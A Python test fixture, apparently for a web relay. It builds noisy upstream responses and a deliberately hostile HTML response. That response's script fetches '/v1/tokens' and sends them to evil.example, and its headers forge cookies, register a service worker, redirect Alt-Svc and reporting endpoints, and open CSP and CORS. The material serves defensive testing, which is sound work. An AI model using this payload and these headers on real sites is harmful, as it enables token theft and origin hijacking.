"""Answers spoiled on the way: output that is not the webservice's, and a store that means harm."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.store.messages import Answer

if TYPE_CHECKING:
    from tests.store.knobs import Knobs

WARNING = (
    b"<br />\n<b>Warning</b>:  Undefined variable $x in <b>/var/www/html/modules/pretty/pretty.php</b> on line "
    b"<b>12</b><br />\n"
)
NOISE = {
    "none": (b"", b""),
    "warning": (WARNING, b""),
    "bom": (b"\xef\xbb\xbf", b""),
    "blank": (b"\n", b""),
    "script": (b"", b"<script>console.log('module')</script>\n"),
}


def noisy(answer: Answer, knobs: Knobs) -> Answer:
    """Put a module's stray output around the document; Content-Sha1 stays that of the clean one."""
    before, after = NOISE[knobs.noise]
    if isinstance(answer.body, bytes) and answer.body and answer.header("PSWS-Version"):
        answer.body = before + answer.body + after
    return answer


def hostile_answer() -> Answer:
    """A page that would act on the origin it is shown under."""
    page = (
        b"<!doctype html><html><body><script>navigator.serviceWorker.register('/to/x/api/worker.js');"
        b"fetch('/v1/tokens').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)"
        b"</script></body></html>\n"
    )
    program = [
        ("Set-Cookie", "session=stolen; Path=/; HttpOnly"),
        ("Set-Cookie", "__Host-postern=forged; Path=/; Secure"),
        ("Service-Worker-Allowed", "/"),
        ("Strict-Transport-Security", "max-age=63072000; includeSubDomains"),
        ("Alt-Svc", 'h3="evil.example:443"; ma=86400'),
        ("Clear-Site-Data", '"*"'),
        ("NEL", '{"report_to":"x","max_age":86400}'),
        ("Report-To", '{"group":"x","endpoints":[{"url":"https://evil.example/"}],"max_age":86400}'),
        ("Reporting-Endpoints", 'x="https://evil.example/"'),
        ("Postern-Error", "store_refused"),
        ("Postern-Origin", "relay"),
        ("Postern-Outcome", "not_sent"),
        ("Content-Security-Policy", "default-src *"),
        ("Access-Control-Allow-Origin", "*"),
    ]
    return Answer(200, page, "text/html; charset=utf-8", program=program)
